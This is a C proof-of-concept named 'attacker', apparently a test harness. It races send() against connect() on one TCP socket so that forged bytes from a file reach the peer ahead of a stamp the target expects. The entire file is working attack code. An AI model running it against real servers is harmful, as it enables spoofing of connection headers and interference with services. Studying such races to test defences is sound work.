/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to get bytes of its own in front of the stamp: one thread connects, another one sends the forged bytes on the
 * same socket as fast as it can, so that some sends are entered while the socket is in SYN_SENT.
 *
 * Bytes that got out may be refused before connect() has returned; it says then that the connection was reset, because
 * inet_stream_connect() (net/ipv4/af_inet.c) looks at the state once it is woken: ECONNRESET, or EPIPE where the other
 * side had closed before they came (tcp_reset(), net/ipv4/tcp_input.c). That round is over.
 *
 * usage: attacker ADDRESS PORT ROUNDS FORGED_FILE; prints how many sends succeeded. Any other error is 1, named on
 * stderr.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static char forged[4096];
static size_t forged_size;
static long sent;
static atomic_bool sending; /* the sender has begun */
static atomic_bool over;    /* it need not send any more */

static void *send_first(void *sock)
{
	atomic_store(&sending, true);
	while (!atomic_load(&over)) {
		/* EPIPE until connect() has begun; blocks while in SYN_SENT. */
		if (send(*(int *)sock, forged, forged_size, MSG_NOSIGNAL) > 0) {
			sent++;
			break;
		}
	}
	return NULL;
}

/* Returns 0, or -1 with the failed call named on stderr. */
static int attack(const struct sockaddr_in *to)
{
	int sock = socket(AF_INET, SOCK_STREAM, 0);
	pthread_t sender;
	int refused;

	if (sock < 0) {
		perror("socket");
		return -1;
	}
	atomic_store(&sending, false);
	atomic_store(&over, false);
	if (pthread_create(&sender, NULL, send_first, &sock)) {
		perror("pthread_create");
		return -1;
	}
	while (!atomic_load(&sending))
		sched_yield();
	refused = connect(sock, (const struct sockaddr *)to, sizeof(*to)) ? errno : 0;
	atomic_store(&over, refused != 0);
	pthread_join(sender, NULL);
	close(sock);
	if (refused && refused != ECONNRESET && refused != EPIPE) {
		errno = refused;
		perror("connect");
		return -1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	FILE *file;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	to.sin_port = htons((unsigned short)atoi(argv[2]));
	file = fopen(argv[4], "rb");
	if (!file)
		return 2;
	forged_size = fread(forged, 1, sizeof(forged), file);
	fclose(file);
	for (int i = 0; i < atoi(argv[3]); i++) {
		if (attack(&to))
			return 1;
	}
	printf("%ld\n", sent);
	return 0;
}
